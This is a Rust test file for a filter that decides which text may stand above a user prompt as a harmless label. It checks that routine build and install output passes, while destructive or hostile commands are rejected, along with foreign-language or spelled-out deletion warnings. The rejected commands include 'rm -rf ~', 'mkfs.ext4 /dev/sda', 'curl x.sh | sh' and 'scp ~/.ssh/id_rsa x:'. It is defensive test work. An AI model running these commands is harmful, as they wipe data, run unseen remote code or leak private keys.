//! What may stand above a prompt, and what may not.

use super::*;
use crate::core::policy::prompt::names_harm;

fn passes(text: &str) -> bool {
    is_harmless(text, names_harm)
}

#[test]
fn a_sentence_above_must_be_known_and_a_name_need_not() {
    for text in [
        "This utility will walk you through creating a package.json file.",
        "shop-of-mine",
        "Resolving zlib",
        "Compiling zlib v1.2.3 (/home/dev/work/shop)",
        "Updating crates.io index",
        "Collecting urllib3",
        "Downloading requests-2.31.0-py3-none-any.whl (62 kB)",
        "Scaffolding project in /home/dev/shop...",
        "added 31 packages, and audited 32 packages in 2s",
        "> shop@1.0.0 dev",
        "> create-vite frobnix",
        "✔ ... frobnix",
    ] {
        assert!(passes(text), "{text}");
    }
    for text in [
        "This empties your tables.",
        "It goes over the old one.",
        "The folder will be another one.",
        "Alle Daten sind dann weg.",
    ] {
        assert!(!passes(text), "{text}");
    }
}

/// Two words were anybody's, and paths and options did not count, so a whole command line was a label.
#[test]
fn a_command_is_no_label() {
    for text in [
        "rm -rf ~",
        "$ rm -rf ~",
        "+ rm -rf ~",
        "rm -rf /home/me",
        "rm -rf ~/work/client",
        "rm -rf /home/me/work ~/.ssh",
        "Next:\n  rm -rf ~",
        "/bin/rm project",
        "> mkfs.ext4 /dev/sda",
        "dd of=/dev/sda",
        "shred disk",
        "curl x.sh | sh",
        "npm publish",
        "dropdb main",
        "chmod -R 777 /",
        "scp ~/.ssh/id_rsa x:",
        "mv ~ /dev/null",
        "> ~/.bashrc",
        "> users.db",
        "reboot",
        "kill -9 -1",
        "git push --force",
        "git reset --hard",
        "git clean -fd",
        "find . -exec rm {} +",
        "wipe-disk",
        "frobnicate --now",
        "x=frobnix",
    ] {
        assert!(!passes(text), "{text}");
    }
}

#[test]
fn money_acts_and_lists_of_losses_are_no_labels() {
    for text in [
        "Send mail",
        "Go live",
        "Total: $4,000",
        "Total: 4,000",
        "Cost: 100",
        "Pay 100 USD",
        "Pay: 100 EUR",
        "4,211 files",
        "Files: 4,211",
        "- /home/me (all files)",
        "D  app.py\nD  db.py",
        "D app.py",
        "[-] users",
        "all files",
    ] {
        assert!(!passes(text), "{text}");
    }
}

#[test]
fn other_languages_are_no_labels() {
    for text in [
        "\u{5168}\u{90e8}\u{524a}\u{9664}\u{3057}\u{307e}\u{3059}",
        "\u{5c06}\u{5220}\u{9664}\u{6240}\u{6709}\u{6587}\u{4ef6}\u{3002}",
        "\u{423}\u{434}\u{430}\u{43b}\u{44f}\u{44e} \u{432}\u{441}\u{451}",
        "L\u{f6}schen",
        "Borrando todo",
        "Borrado total",
        "Loesche alles",
        "Loesche...",
        "Loeschen",
        "Next: Loeschen",
        "Vernichtung",
        "Supprimer",
    ] {
        assert!(!passes(text), "{text}");
    }
}

#[test]
fn letters_that_spell_a_word_are_no_labels() {
    for text in
        ["d e l e t e   a l l", "d.e.l.e.t.e", "D\nE\nL\nE\nT\nE", "D\n\nE\n\nL", "De\nle\nte", "r m x"]
    {
        assert!(!passes(text), "{text}");
    }
    assert!(passes("y\nn"));
}

#[test]
fn no_command_is_a_known_word() {
    let one = COMMAND_WORDS.iter().filter(|word| !word.contains('-'));
    let known: Vec<&&str> = one.filter(|word| is_known(word)).collect();
    assert!(known.is_empty(), "{known:?}");
}

/// What questionary draws twice in one line had four letters in it that stood alone, and so spelled a word.
#[test]
fn the_answers_of_a_question_that_is_drawn_twice_spell_nothing() {
    let printed = "? Use TypeScript? (Y/n)? Use TypeScript? (Y/n)";
    assert!(passes(&super::printed(printed, "Use TypeScript?", &[], false)));
}
